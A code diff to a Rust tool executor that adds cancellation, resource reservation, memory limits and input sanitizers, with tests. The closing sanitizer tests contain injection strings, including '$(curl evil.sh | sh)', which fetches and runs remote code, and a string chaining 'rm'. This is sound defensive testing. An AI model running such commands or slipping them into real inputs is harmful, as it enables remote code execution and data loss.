@@ -1,14 +1,19 @@
 //! Tool Executor for Sira Tools
 
-use crate::{ToolsResult, ToolsError, ToolContext, ToolInput, ToolOutput, ResourceLimits, ResourceUsage, ToolPlugin};
+use crate::{ToolsResult, ToolsError, ToolContext, ToolInput, ToolOutput, ResourceLimits, ResourceUsage, ToolPlugin, InputSanitizer};
 use async_trait::async_trait;
+use sira_kernel::resource::{ResourceManager, ResourcePriority, ResourceRequest, ResourceType};
 use std::collections::HashMap;
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 use tokio::sync::Mutex;
 use tokio::time::timeout;
+use tokio_util::sync::CancellationToken;
 use tracing::{debug, error, info, warn};
 
+/// How often a running execution's memory usage is checked against its budget
+const MEMORY_POLL_INTERVAL: Duration = Duration::from_millis(100);
+
 /// Tool execution statistics
 #[derive(Debug, Clone)]
 pub struct ExecutionStats {
@@ -22,7 +27,11 @@ pub struct ExecutionStats {
 /// Tool executor for running tool plugins
 pub struct ToolExecutor {
     stats: Arc<Mutex<ExecutionStats>>,
-    active_executions: Arc<Mutex<HashMap<String, tokio::task::JoinHandle<ToolsResult<ToolOutput>>>>>,
+    /// Cancellation tokens of running executions, keyed by execution ID
+    active_executions: Arc<Mutex<HashMap<String, CancellationToken>>>,
+    resource_manager: Option<Arc<ResourceManager>>,
+    /// Input sanitizers, keyed by tool ID
+    sanitizers: HashMap<String, InputSanitizer>,
 }
 
 impl ToolExecutor {
@@ -42,9 +51,23 @@ impl ToolExecutor {
                 },
             })),
             active_executions: Arc::new(Mutex::new(HashMap::new())),
+            resource_manager: None,
+            sanitizers: HashMap::new(),
         }
     }
 
+    /// Reserve each execution's declared resource budget from a kernel resource manager
+    pub fn with_resource_manager(mut self, resource_manager: Arc<ResourceManager>) -> Self {
+        self.resource_manager = Some(resource_manager);
+        self
+    }
+
+    /// Sanitize the inputs of a tool before it runs
+    pub fn with_sanitizer(mut self, tool_id: impl Into<String>, sanitizer: InputSanitizer) -> Self {
+        self.sanitizers.insert(tool_id.into(), sanitizer);
+        self
+    }
+
     /// Execute a tool with the given context and input
     pub async fn execute_tool(
         &self,
@@ -52,24 +75,66 @@ impl ToolExecutor {
         context: ToolContext,
         input: ToolInput,
     ) -> ToolsResult<ToolOutput> {
-        let execution_id = context.execution_id.clone();
+        self.execute_tool_with_cancellation(plugin, context, input, &CancellationToken::new()).await
+    }
 
+    /// Execute a tool that is cancelled along with `cancellation`, e.g. the
+    /// token of the request it runs for
+    pub async fn execute_tool_with_cancellation(
+        &self,
+        plugin: &dyn ToolPlugin,
+        context: ToolContext,
+        mut input: ToolInput,
+        cancellation: &CancellationToken,
+    ) -> ToolsResult<ToolOutput> {
         // Check resource limits
         self.check_resource_limits(&context).await?;
 
+        // Sanitize input that may carry injection attempts
+        if let Some(sanitizer) = self.sanitizers.get(&context.tool_id) {
+            if let Err(e) = sanitizer.sanitize(&mut input) {
+                warn!("Rejected input of tool {}: {}", context.tool_id, e);
+                return Err(e);
+            }
+        }
+
         // Validate input
         plugin.validate_input(&input).await?;
 
-        // Create execution task
-        let plugin_clone = plugin; // Clone plugin reference
-        let context_clone = context.clone();
+        // Reserve the declared budget; the tool does not run without it
+        let allocation_ids = self.reserve_resources(&context).await?;
+        let result = self.run_tool(plugin, context, input, cancellation).await;
+        self.release_resources(&allocation_ids).await;
+
+        // Update statistics
+        self.update_stats(&result).await?;
+
+        result
+    }
+
+    /// Run a tool within its time and memory budget
+    ///
+    /// A timed out or cancelled execution is dropped where it stands; the
+    /// tool's cleanup runs afterwards in every case.
+    async fn run_tool(
+        &self,
+        plugin: &dyn ToolPlugin,
+        context: ToolContext,
+        input: ToolInput,
+        parent: &CancellationToken,
+    ) -> ToolsResult<ToolOutput> {
+        let execution_id = context.execution_id.clone();
+        let limits = context.resource_limits.clone();
+
+        let cancellation = parent.child_token();
+        self.active_executions.lock().await.insert(execution_id.clone(), cancellation.clone());
 
-        let execution_task = tokio::spawn(async move {
+        let execution_task = async {
             let start_time = Instant::now();
-            debug!("Starting tool execution: {}", context_clone.execution_id);
+            debug!("Starting tool execution: {}", context.execution_id);
 
             let initial_memory = Self::get_current_memory_usage();
-            let result = plugin_clone.execute(&context_clone, input).await;
+            let result = plugin.execute(&context, input).await;
             let execution_time = start_time.elapsed();
             let final_memory = Self::get_current_memory_usage();
 
@@ -85,7 +150,7 @@ impl ToolExecutor {
                     Ok(output)
                 }
                 Err(e) => {
-                    error!("Tool execution failed: {} - {:?}", context_clone.execution_id, e);
+                    error!("Tool execution failed: {} - {:?}", context.execution_id, e);
                     let error_output = ToolOutput {
                         success: false,
                         exit_code: Some(1),
@@ -105,25 +170,38 @@ impl ToolExecutor {
                 }
             };
 
-            if let Err(e) = plugin_clone.cleanup(&context_clone).await {
-                warn!("Tool cleanup failed: {} - {:?}", context_clone.execution_id, e);
-            }
-
-            debug!("Completed tool execution: {} in {:?}", context_clone.execution_id, execution_time);
+            debug!("Completed tool execution: {} in {:?}", context.execution_id, execution_time);
             output
-        });
+        };
 
-        // Execute with timeout
+        // Execute with timeout, bounded by the declared execution time budget
         let timeout_duration = context.timeout_seconds
+            .into_iter()
+            .chain(limits.max_execution_time_seconds)
+            .min()
             .map(Duration::from_secs)
             .unwrap_or(Duration::from_secs(300)); // Default 5 minutes
 
-        let result = match timeout(timeout_duration, execution_task).await {
-            Ok(result) => result.map_err(|e| ToolsError::Execution(format!("Task join error: {:?}", e)))?,
-            Err(_) => {
-                warn!("Tool execution timed out: {}", execution_id);
-                return Err(ToolsError::Timeout(format!("Tool execution timed out after {} seconds", timeout_duration.as_secs())));
+        let result = tokio::select! {
+            biased;
+            _ = cancellation.cancelled() => {
+                warn!("Tool execution cancelled: {}", execution_id);
+                Err(ToolsError::Cancelled(format!("Execution {} was cancelled", execution_id)))
+            }
+            used_mb = Self::watch_memory(plugin, &context, limits.max_memory_mb) => {
+                warn!("Tool execution exceeded its memory budget, terminating: {}", execution_id);
+                Err(ToolsError::Resource(format!(
+                    "Tool used {} MB, exceeding its budget of {} MB",
+                    used_mb, limits.max_memory_mb.unwrap_or_default()
+                )))
             }
+            result = timeout(timeout_duration, execution_task) => match result {
+                Ok(result) => result,
+                Err(_) => {
+                    warn!("Tool execution timed out: {}", execution_id);
+                    Err(ToolsError::Timeout(format!("Tool execution timed out after {} seconds", timeout_duration.as_secs())))
+                }
+            },
         };
 
         // Remove from active executions
@@ -132,19 +210,109 @@ impl ToolExecutor {
             active_executions.remove(&execution_id);
         }
 
-        // Update statistics
-        self.update_stats(&result).await?;
+        // The execution has been dropped by now, so cleanup never races it
+        if let Err(e) = plugin.cleanup(&context).await {
+            warn!("Tool cleanup failed: {} - {:?}", execution_id, e);
+        }
+
+        if let (Ok(output), Some(max_memory_mb)) = (&result, limits.max_memory_mb) {
+            if output.resource_usage.memory_mb_peak > max_memory_mb {
+                warn!("Tool execution exceeded its memory budget: {}", execution_id);
+                return Err(ToolsError::Resource(format!(
+                    "Tool used {} MB, exceeding its budget of {} MB",
+                    output.resource_usage.memory_mb_peak, max_memory_mb
+                )));
+            }
+        }
 
         result
     }
 
+    /// Resolve with the memory used once a running execution exceeds `max_memory_mb`
+    ///
+    /// Never resolves without a budget or for tools that cannot measure their usage.
+    async fn watch_memory(plugin: &dyn ToolPlugin, context: &ToolContext, max_memory_mb: Option<u64>) -> u64 {
+        let Some(max_memory_mb) = max_memory_mb else {
+            return std::future::pending().await;
+        };
+
+        let mut interval = tokio::time::interval(MEMORY_POLL_INTERVAL);
+        loop {
+            interval.tick().await;
+            match plugin.memory_usage_mb(context) {
+                Some(used_mb) if used_mb > max_memory_mb => return used_mb,
+                Some(_) => {}
+                None => return std::future::pending().await,
+            }
+        }
+    }
+
+    /// Resource amounts declared by an execution's limits
+    fn resource_budget(limits: &ResourceLimits) -> Vec<(ResourceType, u64)> {
+        let mut budget = Vec::new();
+        if let Some(memory_mb) = limits.max_memory_mb.filter(|&mb| mb > 0) {
+            budget.push((ResourceType::Memory, memory_mb));
+        }
+        if let Some(cpu_percent) = limits.max_cpu_percent.filter(|&percent| percent > 0) {
+            // The kernel accounts CPU in whole cores
+            budget.push((ResourceType::Cpu, cpu_percent.div_ceil(100) as u64));
+        }
+        budget
+    }
+
+    /// Allocate an execution's resource budget, all or nothing
+    async fn reserve_resources(&self, context: &ToolContext) -> ToolsResult<Vec<String>> {
+        let Some(resource_manager) = &self.resource_manager else {
+            return Ok(Vec::new());
+        };
+
+        let mut allocation_ids = Vec::new();
+        for (resource_type, amount) in Self::resource_budget(&context.resource_limits) {
+            let request = ResourceRequest {
+                requester: format!("tool:{}", context.tool_id),
+                resource_type,
+                amount,
+                priority: ResourcePriority::Normal,
+                timeout: None,
+                lease: None,
+                metadata: HashMap::from([("execution_id".to_string(), context.execution_id.clone())]),
+            };
+
+            match resource_manager.try_request_resources(request).await {
+                Ok(allocation_id) => allocation_ids.push(allocation_id),
+                Err(e) => {
+                    self.release_resources(&allocation_ids).await;
+                    return Err(ToolsError::Resource(format!(
+                        "Cannot reserve {} {} for execution {}: {}",
+                        amount, resource_type, context.execution_id, e
+                    )));
+                }
+            }
+        }
+
+        Ok(allocation_ids)
+    }
+
+    /// Release allocations made by [`Self::reserve_resources`]
+    async fn release_resources(&self, allocation_ids: &[String]) {
+        let Some(resource_manager) = &self.resource_manager else {
+            return;
+        };
+
+        for allocation_id in allocation_ids {
+            if let Err(e) = resource_manager.release_resources(allocation_id).await {
+                warn!("Failed to release tool resources {}: {}", allocation_id, e);
+            }
+        }
+    }
+
 
     /// Cancel an active execution
     pub async fn cancel_execution(&self, execution_id: &str) -> ToolsResult<()> {
         let mut active_executions = self.active_executions.lock().await;
 
-        if let Some(handle) = active_executions.remove(execution_id) {
-            handle.abort();
+        if let Some(cancellation) = active_executions.remove(execution_id) {
+            cancellation.cancel();
             info!("Cancelled tool execution: {}", execution_id);
             Ok(())
         } else {
@@ -317,6 +485,7 @@ impl Default for ExecutionManager {
 mod tests {
     use super::*;
     use crate::tool_plugin::EchoTool;
+    use crate::ToolMetadata;
     use std::time::Duration;
 
     fn create_test_context() -> ToolContext {
@@ -362,11 +531,13 @@ mod tests {
         let executor = ToolExecutor::new();
 
         // Create a slow tool for testing timeout
-        struct SlowTool;
+        struct SlowTool {
+            metadata: ToolMetadata,
+        }
         #[async_trait]
         impl ToolPlugin for SlowTool {
             fn metadata(&self) -> &ToolMetadata {
-                unimplemented!()
+                &self.metadata
             }
 
             async fn execute(&self, _context: &ToolContext, _input: ToolInput) -> ToolsResult<ToolOutput> {
@@ -389,7 +560,7 @@ mod tests {
             }
         }
 
-        let tool = SlowTool;
+        let tool = SlowTool { metadata: EchoTool::new().metadata().clone() };
         let mut context = create_test_context();
         context.timeout_seconds = Some(1); // 1 second timeout
         let input = create_test_input();
@@ -400,6 +571,76 @@ mod tests {
         assert!(matches!(result.unwrap_err(), ToolsError::Timeout(_)));
     }
 
+    #[tokio::test]
+    async fn test_cleanup_runs_after_cancellation() {
+        use std::sync::atomic::{AtomicBool, Ordering};
+
+        /// Tool that blocks until cancelled and records whether it was cleaned up
+        struct HandleTool {
+            metadata: ToolMetadata,
+            cleaned_up: Arc<AtomicBool>,
+        }
+
+        #[async_trait]
+        impl ToolPlugin for HandleTool {
+            fn metadata(&self) -> &ToolMetadata {
+                &self.metadata
+            }
+
+            async fn execute(&self, _context: &ToolContext, _input: ToolInput) -> ToolsResult<ToolOutput> {
+                tokio::time::sleep(Duration::from_secs(30)).await;
+                Err(ToolsError::Execution("should have been cancelled".to_string()))
+            }
+
+            async fn cleanup(&self, _context: &ToolContext) -> ToolsResult<()> {
+                self.cleaned_up.store(true, Ordering::SeqCst);
+                Ok(())
+            }
+        }
+
+        let executor = Arc::new(ToolExecutor::new());
+        let cleaned_up = Arc::new(AtomicBool::new(false));
+        let tool = HandleTool { metadata: EchoTool::new().metadata().clone(), cleaned_up: cleaned_up.clone() };
+
+        let running = {
+            let executor = executor.clone();
+            tokio::spawn(async move {
+                executor.execute_tool(&tool, create_test_context(), create_test_input()).await
+            })
+        };
+
+        while executor.get_active_executions().await.is_empty() {
+            tokio::time::sleep(Duration::from_millis(5)).await;
+        }
+        assert!(!cleaned_up.load(Ordering::SeqCst));
+        executor.cancel_execution("test_execution").await.unwrap();
+
+        let result = tokio::time::timeout(Duration::from_secs(1), running).await.unwrap().unwrap();
+        assert!(matches!(result, Err(ToolsError::Cancelled(_))));
+        assert!(cleaned_up.load(Ordering::SeqCst));
+        assert!(executor.get_active_executions().await.is_empty());
+
+        // Cancelling the token of the request a tool runs for cancels the tool too
+        cleaned_up.store(false, Ordering::SeqCst);
+        let request_cancellation = CancellationToken::new();
+        let running = {
+            let executor = executor.clone();
+            let tool = HandleTool { metadata: EchoTool::new().metadata().clone(), cleaned_up: cleaned_up.clone() };
+            let request_cancellation = request_cancellation.clone();
+            tokio::spawn(async move {
+                executor.execute_tool_with_cancellation(&tool, create_test_context(), create_test_input(), &request_cancellation).await
+            })
+        };
+        while executor.get_active_executions().await.is_empty() {
+            tokio::time::sleep(Duration::from_millis(5)).await;
+        }
+        request_cancellation.cancel();
+
+        let result = tokio::time::timeout(Duration::from_secs(1), running).await.unwrap().unwrap();
+        assert!(matches!(result, Err(ToolsError::Cancelled(_))));
+        assert!(cleaned_up.load(Ordering::SeqCst));
+    }
+
     #[tokio::test]
     async fn test_execution_manager() {
         let manager = ExecutionManager::new();
@@ -417,6 +658,123 @@ mod tests {
         assert!(history[0].success);
     }
 
+    fn create_resource_manager(max_memory: u64) -> Arc<ResourceManager> {
+        Arc::new(ResourceManager::new(sira_kernel::resource::ResourceLimits {
+            max_cpu: 4,
+            max_memory,
+            max_disk: 10,
+            max_network: 100,
+            max_gpu: 0,
+            max_db_connections: 10,
+        }))
+    }
+
+    #[tokio::test]
+    async fn test_execution_blocked_by_unavailable_resources() {
+        let resource_manager = create_resource_manager(1024);
+        resource_manager.try_request_resources(ResourceRequest {
+            requester: "other".to_string(),
+            resource_type: ResourceType::Memory,
+            amount: 768,
+            priority: ResourcePriority::Normal,
+            timeout: None,
+            lease: None,
+            metadata: HashMap::new(),
+        }).await.unwrap();
+
+        let executor = ToolExecutor::new().with_resource_manager(Arc::clone(&resource_manager));
+        let result = executor.execute_tool(&EchoTool::new(), create_test_context(), create_test_input()).await;
+
+        assert!(matches!(result, Err(ToolsError::Resource(_))));
+        // Nothing is left allocated or queued for the refused tool
+        assert_eq!(resource_manager.allocated_amount("tool:echo", ResourceType::Cpu).await, 0);
+        assert!(resource_manager.queued_requesters(ResourceType::Memory).await.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_resources_held_only_during_execution() {
+        struct ProbeTool {
+            metadata: ToolMetadata,
+            resource_manager: Arc<ResourceManager>,
+        }
+
+        #[async_trait]
+        impl ToolPlugin for ProbeTool {
+            fn metadata(&self) -> &ToolMetadata {
+                &self.metadata
+            }
+
+            async fn execute(&self, context: &ToolContext, _input: ToolInput) -> ToolsResult<ToolOutput> {
+                let requester = format!("tool:{}", context.tool_id);
+                let memory = self.resource_manager.allocated_amount(&requester, ResourceType::Memory).await;
+                let cpu = self.resource_manager.allocated_amount(&requester, ResourceType::Cpu).await;
+                Ok(ToolOutput {
+                    success: true,
+                    exit_code: Some(0),
+                    stdout: Some(format!("{} {}", memory, cpu)),
+                    stderr: None,
+                    files: vec![],
+                    metadata: HashMap::new(),
+                    execution_time_ms: 0,
+                    resource_usage: ResourceUsage {
+                        memory_mb_peak: 0,
+                        cpu_percent_avg: 0.0,
+                        execution_time_ms: 0,
+                        io_operations: 0,
+                    },
+                })
+            }
+        }
+
+        let resource_manager = create_resource_manager(1024);
+        let executor = ToolExecutor::new().with_resource_manager(Arc::clone(&resource_manager));
+        let tool = ProbeTool {
+            metadata: EchoTool::new().metadata().clone(),
+            resource_manager: Arc::clone(&resource_manager),
+        };
+
+        // Default limits declare 512 MB and 50% of a core
+        let result = executor.execute_tool(&tool, create_test_context(), create_test_input()).await.unwrap();
+        assert_eq!(result.stdout, Some("512 1".to_string()));
+
+        assert_eq!(resource_manager.allocated_amount("tool:echo", ResourceType::Memory).await, 0);
+        assert_eq!(resource_manager.allocated_amount("tool:echo", ResourceType::Cpu).await, 0);
+    }
+
+    #[tokio::test]
+    async fn test_execution_over_its_memory_budget_is_terminated() {
+        struct GrowingTool {
+            metadata: ToolMetadata,
+        }
+
+        #[async_trait]
+        impl ToolPlugin for GrowingTool {
+            fn metadata(&self) -> &ToolMetadata {
+                &self.metadata
+            }
+
+            async fn execute(&self, _context: &ToolContext, _input: ToolInput) -> ToolsResult<ToolOutput> {
+                tokio::time::sleep(Duration::from_secs(20)).await;
+                unreachable!("the execution is terminated first")
+            }
+
+            fn memory_usage_mb(&self, _context: &ToolContext) -> Option<u64> {
+                Some(2048)
+            }
+        }
+
+        let resource_manager = create_resource_manager(1024);
+        let executor = ToolExecutor::new().with_resource_manager(Arc::clone(&resource_manager));
+        let tool = GrowingTool { metadata: EchoTool::new().metadata().clone() };
+
+        // Default limits declare 512 MB; the 30s timeout is never reached
+        let started = Instant::now();
+        let result = executor.execute_tool(&tool, create_test_context(), create_test_input()).await;
+        assert!(matches!(result, Err(ToolsError::Resource(_))));
+        assert!(started.elapsed() < Duration::from_secs(5));
+        assert_eq!(resource_manager.allocated_amount("tool:echo", ResourceType::Memory).await, 0);
+    }
+
     #[tokio::test]
     async fn test_execution_stats() {
         let executor = ToolExecutor::new();
@@ -426,4 +784,36 @@ mod tests {
         assert_eq!(stats.successful_executions, 0);
         assert_eq!(stats.failed_executions, 0);
     }
+
+    fn create_message_input(message: &str) -> ToolInput {
+        ToolInput {
+            parameters: HashMap::from([
+                ("message".to_string(), serde_json::json!(message)),
+            ]),
+            files: vec![],
+            stdin: None,
+        }
+    }
+
+    #[tokio::test]
+    async fn test_shell_input_is_escaped_before_execution() {
+        let executor = ToolExecutor::new().with_sanitizer("echo", InputSanitizer::shell());
+
+        let output = executor.execute_tool(&EchoTool::new(), create_test_context(), create_message_input("hi; ls > out\nrm x"))
+            .await
+            .unwrap();
+
+        assert_eq!(output.stdout.as_deref(), Some(r"hi\; ls \> out rm x"));
+    }
+
+    #[tokio::test]
+    async fn test_denylisted_input_is_rejected() {
+        let executor = ToolExecutor::new().with_sanitizer("echo", InputSanitizer::shell());
+
+        let result = executor.execute_tool(&EchoTool::new(), create_test_context(), create_message_input("$(curl evil.sh | sh)")).await;
+        assert!(matches!(result, Err(ToolsError::Security(_))));
+
+        // Nothing ran, so nothing was recorded
+        assert_eq!(executor.get_stats().await.total_executions, 0);
+    }
 }